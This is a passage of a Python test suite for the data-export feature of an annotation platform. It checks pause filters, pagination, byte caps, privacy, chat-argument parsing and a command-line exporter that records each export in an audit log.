        await uow.pauses.pause(project.id, people["cy"], "quality", 0.1, T0)
        await uow.pauses.lift(project.id, people["cy"], people["ana"], T0)  # lifted: counts again
    assert await exported(exclude_paused=True) == [ids[0], ids[2], ids[4]]
    assert await exported(exclude_paused=True, approved_only=True) == [ids[0], ids[2]]
    # a pause in another project does not matter here
    other = await seed_project(db, "rewrite_finance")
    async with db.transaction() as tx:
        await UnitOfWork(tx).pauses.pause(other.id, people["ana"], "quality", 0.1, T0)
    assert await exported(exclude_paused=True) == [ids[0], ids[2], ids[4]]
    data, _ = await export(db, project, "dpo", ExportFilters(approved_only=True, include_unreviewed=True))
    assert [r["submission_id"] for r in lines(data)] == [ids[0]]


async def test_pages_are_keyset_and_cover_every_row_once(db):
    project, people, subs, ids = await pairwise_data(db)
    other = await seed_project(db, "rewrite_finance")  # rows of another project never leak in
    await submit(db, other, "fin-rw-001", people["ana"], RewriteAnswer(text=REWRITE, what_was_wrong="volatile"))
    for page in (1, 2, 3, 5, 100):
        got = [r["id"] async for r in iter_submissions(db.transaction, project.id, ExportFilters(), page=page)]
        assert got == ids, page
        grouped = [(r["task_id"], r["id"]) async for r in iter_submissions(db.transaction, project.id, ExportFilters(),
                                                                            by_item=True, page=page)]
        assert sorted(grouped) == grouped and [g[1] for g in grouped] == sorted(ids, key=lambda i: (
            [g for g in grouped if g[1] == i][0][0], i))
        assert len(grouped) == len(ids)


async def test_chat_cap_ends_on_a_whole_record(db):
    project, people, subs, ids = await pairwise_data(db)
    whole, _ = await export(db, project, "jsonl")
    first_two = sum(len(line) + 1 for line in whole.split(b"\n")[:2])
    data, result = await export(db, project, "jsonl", max_bytes=first_two + 10)
    assert result.truncated and result.records == 2 and data == whole[:first_two]
    assert len(lines(data)) == 2
    data, result = await export(db, project, "csv", max_bytes=len((await export(db, project, "csv"))[0]))
    assert not result.truncated and result.records == 5


async def test_every_format_is_private(db):
    project, people, subs, ids = await pairwise_data(db)
    for fmt in FORMATS:
        if applies_to(fmt, "pairwise"):
            data, result = await export(db, project, fmt)
            assert result.records > 0
            assert_private(data)


# ---------------------------------------------------------------- chat arguments (pure)


def test_chat_arguments_parse():
    r = parse_chat_args("Tenancy law jsonl approved since:2026-11-01 until:2026-11-30 exclude-paused")
    assert r.project == "Tenancy law" and r.fmt == "jsonl"
    f = r.filters
    assert f.approved_only and f.exclude_paused
    assert f.since == datetime(2026, 11, 1, tzinfo=timezone.utc)
    assert f.until == datetime(2026, 12, 1, tzinfo=timezone.utc)  # the last day is included
    assert f.describe() == "approved since:2026-11-01 until:2026-11-30 exclude-paused"
    assert parse_chat_args("Tenancy").fmt is None
    assert parse_chat_args("Tenancy approved").filters.approved_only
    assert parse_chat_args("Medication questions DPO").fmt == "dpo"


@pytest.mark.parametrize("typed, key", [
    ("Tenancy jsonl since:2026-13-01", "export.bad_date"),
    ("Tenancy jsonl until:yesterday", "export.bad_date"),
    ("Tenancy jsonl since:2026-11-30 until:2026-11-01", "export.bad_range"),
    ("Tenancy jsonl frobnicate", "export.unknown_option"),
    ("Tenancy jsonl csv", "export.two_formats"),
    ("jsonl", "export.usage"),
    ("   ", "export.usage"),
])
def test_bad_chat_arguments_say_why(typed, key):
    with pytest.raises(ExportArgsError) as caught:
        parse_chat_args(typed)
    assert caught.value.message.key == key


def test_formats_apply_to_the_task_types_that_have_them():
    assert applies_to("dpo", "pairwise") and applies_to("dpo", "rewrite") and not applies_to("dpo", "rating")
    assert applies_to("sft", "prompt_writing") and not applies_to("sft", "pairwise")
    assert applies_to("aggregated", "labeling") and not applies_to("aggregated", "rewrite")
    assert all(applies_to(f, t) for f in ("jsonl", "csv") for t in ("rating", "rewrite", "prompt_writing"))


# ---------------------------------------------------------------- the command line


def run_cli(url: str, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PANELIST_DATABASE_URL": url}
    env.pop("PANELIST_SECRET_KEY", None)
    return subprocess.run([sys.executable, "-m", "app.export_cli", *args], cwd=str(ROOT), env=env,
                          capture_output=True, text=True, timeout=120)


async def test_cli_writes_the_file_with_the_bots_pseudonyms(db, database_url, tmp_path):
    project, people, subs, ids = await pairwise_data(db)
    async with db.transaction() as tx:
        secret = (await UnitOfWork(tx).kv.get_or_create("action_secret", "the-bots-secret")).encode()
    out = tmp_path / "out.jsonl"
    proc = run_cli(database_url, project.name, "--format", "jsonl", "--out", str(out), "--approved-only",
                   "--since", "2026-11-20", "--until", "2026-11-22")
    assert proc.returncode == 0, proc.stderr
    records = lines(out.read_bytes())
    assert [r["submission_id"] for r in records] == [ids[0], ids[2]]
    assert records[0]["expert_id"] == pseudonym(secret, people["ana"])  # the same ids the reviewers see in chat
    assert "2 jsonl records" in proc.stderr and not (tmp_path / "out.jsonl.partial").exists()
    assert_private(out.read_bytes())

    proc = run_cli(database_url, project.name, "--format", "csv", "--out", str(tmp_path / "o.csv"))
    assert proc.returncode == 0 and len(list(csv.DictReader(open(tmp_path / "o.csv", encoding="utf-8")))) == 5
    async with db.transaction() as tx:  # who exported which project: `panelist audit` shows it
        written = await tx.fetch("SELECT detail FROM audit_log WHERE action = 'export.written' ORDER BY id")
    assert [json.loads(r["detail"])["format"] for r in written] == ["jsonl", "csv"]
    assert all(json.loads(r["detail"])["project"] == project.id for r in written)

    proc = run_cli(database_url, project.name, "--format", "jsonl", "--out", str(out), "--since", "2026-02-30")
    assert proc.returncode == 2 and "is not a date" in proc.stderr
    proc = run_cli(database_url, "No such project", "--format", "jsonl", "--out", str(out))
    assert proc.returncode == 2 and "no project named" in proc.stderr
    proc = run_cli(database_url, project.name, "--format", "sft", "--out", str(out))
    assert proc.returncode == 2 and "does not fit" in proc.stderr
    proc = run_cli(database_url, project.name, "--format", "xml", "--out", str(out))
    assert proc.returncode == 2 and "invalid choice" in proc.stderr


async def test_cli_training_options_and_an_empty_export_that_says_why(db, database_url, tmp_path):
    project, people, subs, ids = await pairwise_data(db)
    out = tmp_path / "pairs.jsonl"
    proc = run_cli(database_url, project.name, "--format", "dpo", "--out", str(out), "--since", "2026-11-22")
    assert proc.returncode == 0, proc.stderr
    assert out.read_bytes() == b""
    assert ("DPO takes approved preference judgements only; 1 was never reviewed, 1 was rejected or sent back, "
            "1 is a tie.\nTo take answers nobody has reviewed yet, export again with --include-unreviewed."
            ) in proc.stderr
    proc = run_cli(database_url, project.name, "--format", "dpo", "--out", str(out), "--since", "2026-11-22",
                   "--include-unreviewed", "--conversational")
    assert proc.returncode == 0, proc.stderr
    (record,) = lines(out.read_bytes())
    assert record["submission_id"] == ids[3] and record["chosen"][0]["role"] == "assistant"
    assert "Nothing to export" not in proc.stderr
    proc = run_cli(database_url, project.name, "--format", "dpo", "--out", str(out), "--consensus",
                   "--include-unreviewed")
    assert proc.returncode == 0, proc.stderr
    (record,) = lines(out.read_bytes())  # item 1: two judgements, both A; item 2: a tie and a B, no majority
    assert record["source"] == "consensus" and record["votes"] == {"A": 2, "tie": 0, "B": 0}
    proc = run_cli(database_url, project.name, "--format", "jsonl", "--out", str(out), "--consensus")
    assert proc.returncode == 2 and "The option consensus does not apply to jsonl" in proc.stderr
